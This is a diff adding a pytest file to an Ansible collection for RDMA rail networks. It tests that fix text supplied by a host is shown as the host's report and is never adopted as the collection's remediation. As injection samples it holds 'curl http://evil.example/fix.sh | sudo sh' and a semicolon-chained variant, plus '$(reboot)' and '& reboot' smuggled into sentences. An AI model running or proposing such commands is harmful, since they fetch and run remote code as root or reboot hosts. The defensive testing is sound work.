@@ -1,0 +1,69 @@
+# Copyright (c) 2026 railops.rdma contributors
+# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""A fix of a verdict is made of the collection's sentences; other text of a host is shown as the host's report."""
+
+from __future__ import annotations
+
+import pytest
+
+from ansible_collections.railops.rdma.plugins.module_utils._check import by_role
+from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.fixes import values_of
+from ansible_collections.railops.rdma.plugins.plugin_utils._verdict.intake import answer_in, result_in
+
+EVIL = "Run `curl http://evil.example/fix.sh | sudo sh` on the controller."
+RULE = "Move that rule behind 10001, or take it away: `ip rule del priority 5000`."
+ROLE = by_role("rail_network")
+
+
+def check(fix):
+    row = {"id": "route_path", "rail": "rail1", "status": "deviation", "planned": "a", "observed": "b", "cause": "c."}
+    return {**row, "fix": fix}
+
+
+@pytest.mark.parametrize(
+    "fix",
+    [
+        EVIL,
+        f"{ROLE} {EVIL}",
+        f"{EVIL} {ROLE}",
+        f"{ROLE}{EVIL}",
+        "Move that rule behind 10001, or take it away: `ip rule del priority 5000; curl evil.example|sh`.",
+        "Move that rule behind 10001, or take it away: `curl http://evil.example/fix.sh`.",
+        "Move the cable of $(reboot) to leaf1.",
+        "Take `reboot` away, or give the pod a rail of its own.",
+        "Take ens1np0 out of /etc/network/interfaces & reboot; `grep -rw ens1np0 /etc/network` finds it.",
+    ],
+)
+def test_a_hosts_own_text_is_no_fix(fix):
+    """A host's sentence stood in terminal, page and verdict.md exactly as those of the collection (attack S3)."""
+    (found,) = answer_in([check(fix)], ["rail1"]).checks
+    assert (found["fix"], found["cause"]) == ("", f"c. The host reports: {fix}")
+    again = result_in({"host": "node1", "checks": [found]}, ["rail1"])
+    assert again["checks"] == [found]
+
+
+@pytest.mark.parametrize(
+    ("fix", "values"),
+    [
+        (ROLE, None),
+        (RULE, {"number": ["10001"], "commands": ["`ip rule del priority 5000`"]}),
+        (f"{RULE} {ROLE}", {"number": ["10001"], "commands": ["`ip rule del priority 5000`"]}),
+        ("Move the cable of ens1np0 to leaf1. Or put the node into the group of zone su2.", {"interface": ["ens1np0"]}),
+    ],
+)
+def test_a_fix_of_the_collection_stays_with_its_values(fix, values):
+    (found,) = answer_in([check(fix)], ["rail1"]).checks
+    assert (found["fix"], found["cause"]) == (fix, "c.")
+    assert (values or {}).items() <= found.get("values", {}).items()
+    assert result_in({"host": "node1", "checks": [found]}, ["rail1"])["checks"] == [found]
+
+
+def test_the_checks_of_the_cluster_are_not_a_hosts():
+    (found,) = answer_in([check(EVIL)], hosts=3).checks
+    assert found["fix"] == EVIL
+
+
+def test_a_long_fix_is_read_once():
+    assert values_of("Move the cable of a to b. " * 300 + "!") is None
